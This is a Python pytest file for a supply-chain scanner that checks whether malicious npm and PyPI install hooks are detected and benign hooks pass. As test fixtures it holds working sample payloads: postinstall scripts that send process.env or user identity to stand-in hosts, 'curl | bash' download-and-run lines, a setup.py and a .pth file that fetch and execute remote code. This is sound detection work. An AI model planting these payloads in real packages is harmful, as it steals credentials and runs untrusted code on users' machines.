"""What runs at installation: attacks in texts, their harmless twins, and facts by hand."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem
from adapters.sigil.local.phases.install_hooks import install_hooks
from adapters.sigil.models import PhaseName, Severity

_SEND_ENVIRONMENT = (
    "const https = require('https');\nconst data = JSON.stringify(process.env);\n"
    "const call = https.request({hostname: 'collect.example.invalid', method: 'POST', path: '/x'});\n"
    "call.write(data);\ncall.end();\n"
)
_SEND_IDENTITY = (
    "const os = require('os');\nfetch('https://who.example.invalid/', {method: 'POST',"
    " body: JSON.stringify({host: os.hostname(), user: os.userInfo().username})});\n"
)
_DOWNLOAD_AND_RUN = (
    "const https = require('https'), fs = require('fs'), cp = require('child_process');\n"
    "const file = fs.createWriteStream('/tmp/tool');\n"
    "https.get('%s', answer => { answer.pipe(file);"
    " file.on('finish', () => { fs.chmodSync('/tmp/tool', 0o755); cp.exec('/tmp/tool'); }); });\n"
)
_SETUP = (
    "import subprocess, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
    "class Install(install):\n    def run(self):\n        install.run(self)\n"
    "        urllib.request.urlretrieve('https://files.example.invalid/a.exe', 'a.exe')\n"
    "        subprocess.Popen('a.exe')\nsetup(name='sample', cmdclass={'install': Install})\n"
)


def hooked(command: str, **files: str) -> dict[str, Any]:
    named = {path.replace("_", "."): text for path, text in files.items()}
    return {"package.json": {"name": "sample", "scripts": {"postinstall": command}}, **named}


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        (hooked("node setup.js", setup_js=_SEND_ENVIRONMENT), "install-sends-secrets"),
        (hooked("node setup.js", setup_js=_SEND_IDENTITY), "install-sends-identity"),
        (hooked("curl -s https://cdn.example.invalid/i.sh | bash"), "install-downloads-and-runs"),
        (
            hooked("sh run.sh", run_sh="#!/bin/sh\n# set up\ncurl -s https://x.example.invalid | sh\n"),
            "install-downloads-and-runs",
        ),
        (
            hooked("node get.js", get_js=_DOWNLOAD_AND_RUN % "https://files.example.invalid/a.bin"),
            "install-downloads-and-runs",
        ),
        (
            hooked("node -e \"require('https').get('https://x.example.invalid/?' + JSON.stringify(process.env))\""),
            "install-sends-secrets",
        ),
    ],
)
def test_finds_attack(pack: Any, outcome: Any, files: dict[str, Any], rule: str) -> None:
    """Each attack of an npm hook is found by its rule, and is enough for HIGH_RISK by itself."""
    result = outcome(pack(files))

    assert rule in result.rules(PhaseName.INSTALL_HOOKS)
    assert result.dangerous


@pytest.mark.parametrize(
    "command",
    [
        "node-gyp rebuild",
        "husky install",
        "patch-package",
        "opencollective-postinstall || exit 0",
        "node-pre-gyp install --fallback-to-build",
        "prebuild-install || node-gyp rebuild --release",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "npm run build && echo done",
        "rm -rf build dist && tsc",
    ],
)
def test_everyday_hooks_are_clean(pack: Any, outcome: Any, command: str) -> None:
    """Hooks that thousands of honest packages have say only that they are there."""
    result = outcome(pack(hooked(command)))

    assert result.score == 0
    assert "install-hook" in result.rules(PhaseName.INSTALL_HOOKS)


def test_the_same_code_outside_a_hook_is_not_an_installation(pack: Any, outcome: Any) -> None:
    """Code that no hook leads to is not reported as running at installation."""
    result = outcome(pack({"package.json": {"name": "sample"}, "lib/never.js": _SEND_ENVIRONMENT}))

    assert result.phases[PhaseName.INSTALL_HOOKS].findings == ()


def test_own_binary_from_own_repository_is_medium_at_most(pack: Any, outcome: Any) -> None:
    """A package that fetches its own binary over HTTPS from its own repository's releases is not HIGH_RISK."""
    address = "https://github.com/someone/sample/releases/download/v1.0.0/tool"
    files = hooked("node get.js", get_js=_DOWNLOAD_AND_RUN % address)

    assert not outcome(pack(files, repository="git+https://github.com/someone/sample.git")).dangerous
    assert outcome(pack(files, repository="git+https://github.com/another/sample.git")).dangerous


@pytest.mark.parametrize(
    ("run", "unpacks"),
    [
        ("cp.spawnSync('tar', ['-xzf', '/tmp/tool.tgz', '-C', 'vendor'])", True),
        ("cp.execFileSync('unzip', ['/tmp/tool.tgz'])", True),
        ("cp.spawnSync('/tmp/tool.tgz', ['--version'])", False),
        ("cp.execSync('tar -xzf /tmp/tool.tgz && ./tool')", False),
    ],
)
def test_own_archive_that_is_only_unpacked(*, run: str, unpacks: bool, pack: Any, outcome: Any) -> None:
    """To unpack a release of the own project runs nothing of it yet; to start it says more."""
    code = (
        "const https = require('https'), fs = require('fs'), cp = require('child_process');\n"
        "https.get('https://github.com/someone/sample/releases/download/v1.0.0/tool.tgz', (answer) => {\n"
        f"  answer.on('data', (d) => {{ fs.writeFileSync('/tmp/tool.tgz', d); {run}; }});\n}});"
    )
    found = outcome(pack(hooked("node get.js", get_js=code), repository="git+https://github.com/someone/sample.git"))
    assert (found.score < 10) is unpacks
    assert not found.dangerous


def test_setup_command_that_downloads_and_runs(pack: Any, outcome: Any) -> None:
    """A setup.py whose install command fetches a program and starts it is found; in a wheel it never runs."""
    files = {"setup.py": _SETUP, "sample/__init__.py": ""}

    assert outcome(pack(files, Ecosystem.PYPI, "sample-1.0.tar.gz")).dangerous
    assert outcome(pack(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")).score < 25


def test_start_up_file_that_runs_what_it_fetches(pack: Any, outcome: Any) -> None:
    """A .pth file that runs code from the network is found; one that only extends the path is not."""
    line = "import urllib.request;exec(urllib.request.urlopen('https://p.example.invalid/x').read())\n"
    wheel = "sample-1.0-py3-none-any.whl"

    assert outcome(pack({"a.pth": line, "sample/__init__.py": ""}, Ecosystem.PYPI, wheel)).dangerous
    assert outcome(pack({"a.pth": "./vendor\n", "sample/__init__.py": ""}, Ecosystem.PYPI, wheel)).score == 0


def test_secret_for_its_own_service_is_everyday(made: Any, fact: Callable[..., Fact]) -> None:
    """A token that goes to the service it is for is a hint; elsewhere it is critical."""

    def severity(host: str) -> Severity:
        token = fact(Behaviour.READS_ENVIRONMENT, "GITHUB_TOKEN")
        flow = Flow(source=token, sink=fact(Behaviour.SENDS, host, line=2))
        findings = install_hooks(made({"a.js": (flow,)}, {"postinstall": "node a.js"}))
        return next(each.severity for each in findings if each.rule == "install-sends-secrets")

    assert severity("https://api.github.com/graphql") is Severity.LOW
    assert severity("https://api.example.invalid/github") is Severity.CRITICAL


def test_snippets_are_bounded(made: Any) -> None:
    """A snippet never has more than 500 characters."""
    flow = Flow(
        source=Fact(behaviour=Behaviour.READS_ENVIRONMENT, line=1, snippet="x" * 500, detail="*"),
        sink=Fact(behaviour=Behaviour.SENDS, line=2, snippet="y" * 500, detail="https://x.example.invalid"),
    )

    findings = install_hooks(made({"a.js": (flow,)}, {"postinstall": "node a.js " + "z" * 900}))

    assert {len(each.snippet or "") <= 500 for each in findings} == {True}


def test_script_that_downloads_and_runs_in_several_lines(pack: Any, outcome: Any) -> None:
    """A shell script that fetches on one line and runs on a later one is found; comments are no commands."""
    script = "#!/bin/sh\ncurl -s https://x.example.invalid/a -o /tmp/a\nchmod +x /tmp/a\n/tmp/a\n"
    comment = "#!/bin/sh\n# curl -s https://x.example.invalid/a | sh\nmake\n"

    assert outcome(pack(hooked("sh run.sh", run_sh=script))).dangerous
    assert outcome(pack(hooked("sh run.sh", run_sh=comment))).score == 0


def test_gathering_in_one_file_and_sending_in_another(pack: Any, outcome: Any) -> None:
    """An installation that reads the environment in one file and sends from the file that asks for it is found."""
    files = {
        "package.json": {"name": "sample", "scripts": {"postinstall": "node lib/post.js"}},
        "lib/post.js": (
            "import axios from 'axios';\nimport { collect } from './collect.js';\n"
            "async function main() { await axios.post('https://x.example.invalid/v1', collect()); }\nmain();\n"
        ),
        "lib/collect.js": "export function collect() { return { all: process.env } }",
    }

    assert outcome(pack(files)).dangerous
